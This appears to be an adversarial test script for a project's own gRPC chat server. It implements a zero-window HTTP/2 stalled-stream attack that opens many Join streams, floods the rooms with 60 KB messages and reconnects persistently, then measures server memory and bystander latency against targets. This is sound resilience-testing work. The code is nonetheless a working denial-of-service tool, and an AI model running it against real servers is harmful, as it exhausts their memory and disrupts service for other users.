"""Memory pinned through stalled streams (issue 7, item 4).

Each attacking connection advertises a zero HTTP/2 flow-control window
(SETTINGS_INITIAL_WINDOW_SIZE = 0, never a WINDOW_UPDATE), so the server can
deliver nothing to it, and opens one Join in each of ``--rooms`` rooms; it
still answers pings, as a stalled client does. A sender pushes 60 KB messages
to those rooms. Streams the server ends are re-opened and closed connections
re-made, as a persistent attacker would; everything is bounded by ``--seconds``.

Reported: the server's RSS against its configured budget, and the bystander's
fresh Join + SendMessage round trips within 1 s (tests.adversarial.harness).
Targets: peak RSS below the memory budget plus 100 MB, bystander >= 99 %.
"""

from __future__ import annotations

import contextlib
import threading
import time

import grpc
from hyperframe.frame import PingFrame, SettingsFrame

from hello_protocol import hello_pb2 as pb
from hello_protocol import hello_pb2_grpc

# harness.py comes with the transport attacks (tests/adversarial/harness.py).
from tests.adversarial.harness import (  # type: ignore[import-not-found,unused-ignore]
    DataFrame,
    HeadersFrame,
    RawConnection,
    grpc_frame,
    parse_args,
    request_headers,
    run_attack,
)

FRAME_HEADER = 9
PING, GOAWAY, RST_STREAM, HEADERS = 6, 7, 3, 1
ACK, END_STREAM = 0x1, 0x1
TEXT = "x" * (60 * 1024)


class ZeroWindowConnection(RawConnection):  # type: ignore[misc,unused-ignore]
    """A raw HTTP/2 client that never grants the server any window, but answers pings."""

    def __init__(self, address: str) -> None:
        self._ended: list[int] = []  # stream ids the server ended
        self._lock = threading.Lock()
        super().__init__(address)
        self.send(
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}),
            SettingsFrame(0, flags=["ACK"]),
        )
        self._next_stream = 1

    def open_join(self, address: str, room: str) -> int:
        stream = self._next_stream
        self._next_stream += 2
        body = grpc_frame(pb.JoinRequest(roomID=room, user=pb.User(id="hog")).SerializeToString())
        block = self.headers_block(request_headers(address))
        self.send(
            HeadersFrame(stream, data=block, flags=["END_HEADERS"]),
            DataFrame(stream, data=body, flags=["END_STREAM"]),
        )
        return stream

    def ended_streams(self) -> list[int]:
        with self._lock:
            ended, self._ended = self._ended, []
        return ended

    def _drain(self) -> None:
        buffer = b""
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                break
            if not data:
                break
            self.received += len(data)
            buffer += data
            while len(buffer) >= FRAME_HEADER:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < FRAME_HEADER + length:
                    break
                kind, flags = buffer[3], buffer[4]
                stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload = buffer[FRAME_HEADER : FRAME_HEADER + length]
                buffer = buffer[FRAME_HEADER + length :]
                if kind == PING and not flags & ACK:
                    self.send(PingFrame(0, opaque_data=payload, flags=["ACK"]))
                elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                    with self._lock:
                        self._ended.append(stream)
                elif kind == GOAWAY:
                    self.closed_by_server.set()
        self.closed_by_server.set()


def attack(address: str, rooms: int, connections: int, seconds: float) -> dict[str, object]:
    deadline = time.monotonic() + seconds
    stop = threading.Event()
    counts = {"sent": 0, "refused": 0, "reconnects": 0, "joins": 0}

    def sender() -> None:
        with grpc.insecure_channel(address) as channel:
            stub = hello_pb2_grpc.ChatRoomStub(channel)
            n = 0
            while not stop.is_set():
                room = f"hog-{n % (rooms * connections)}"
                n += 1
                with contextlib.suppress(grpc.RpcError):
                    stub.SendMessage(pb.Message(id="sender", roomID=room, message=TEXT), timeout=2)
                    counts["sent"] += 1
                    continue
                counts["refused"] += 1  # the room is empty for a moment: all its hogs evicted
                stop.wait(0.01)

    def hog(index: int) -> None:
        names = [f"hog-{index * rooms + r}" for r in range(rooms)]
        while time.monotonic() < deadline:
            conn = ZeroWindowConnection(address)
            room_of = {conn.open_join(address, name): name for name in names}
            counts["joins"] += rooms
            while time.monotonic() < deadline and not conn.closed_by_server.wait(0.05):
                for stream in conn.ended_streams():
                    name = room_of.pop(stream, "")
                    if name:
                        room_of[conn.open_join(address, name)] = name
                        counts["joins"] += 1
            conn.close()
            counts["reconnects"] += 1

    send_thread = threading.Thread(target=sender)
    hogs = [threading.Thread(target=hog, args=(i,)) for i in range(connections)]
    for thread in hogs:
        thread.start()
    time.sleep(0.5)  # the hogs' Joins first, so that the rooms exist
    send_thread.start()
    for thread in hogs:
        thread.join()
    stop.set()
    send_thread.join()
    return {"connections": connections, "rooms_each": rooms, "seconds": seconds, **counts}


def main() -> None:
    args = parse_args(
        __doc__ or "",
        [
            ("rooms", 60, "Joins per attacking connection, one per room"),
            ("connections", 1, "attacking connections at once"),
            ("seconds", 20.0, "attack duration at most"),
        ],
    )
    run_attack(
        "zero window",
        args.server_arg,
        attack,
        args.rooms,
        args.connections,
        args.seconds,
    )


if __name__ == "__main__":
    main()
